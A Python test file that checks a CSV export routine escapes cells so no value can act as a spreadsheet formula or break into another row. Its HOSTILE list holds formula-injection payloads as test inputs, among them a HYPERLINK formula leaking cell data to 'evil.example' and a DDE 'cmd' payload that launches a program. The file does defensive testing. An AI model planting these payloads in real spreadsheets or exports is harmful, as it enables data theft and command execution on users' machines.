"""CSV that no cell can attack a spreadsheet with."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.desk.reports.table import BOM, FORMULA, cell, csv_text

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1234",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "−1",
    "|calc",
    "%0A",
    "\x00=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_begins_a_formula(text: str) -> None:
    assert cell(text).startswith("'")


def test_ordinary_words_and_our_own_numbers_are_left_alone() -> None:
    values = [cell(value) for value in ("How do I pay?", -3, 0.5, None, True, "a=b")]

    assert values == ["How do I pay?", "-3", "0.5", "", "yes", "a=b"]


def test_words_cannot_start_another_cell_or_row() -> None:
    attack = 'x",=1+1,"y\r\n=2+2;=3+3\t=4+4'

    text = csv_text(("question", "n"), [{"question": attack, "n": 2}, {"question": "=1", "n": 1}])

    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert len(rows) == 3
    assert rows[1] == [attack.replace("\r\n", "\n"), "2"]
    assert rows[2] == ["'=1", "1"]


@given(st.text(max_size=60))
def test_every_text_survives_as_one_cell_that_is_no_formula(text: str) -> None:
    written = csv_text(("a", "b"), [{"a": text, "b": "end"}]).removeprefix(BOM)

    written.encode("utf-8")
    rows = list(csv.reader(io.StringIO(written, newline="")))

    assert len(rows) == 2
    assert rows[1][1] == "end"
    assert not rows[1][0] or rows[1][0][0] not in FORMULA


def test_a_huge_text_fits_a_cell() -> None:
    assert len(cell("x" * 1_000_000)) < 32_767
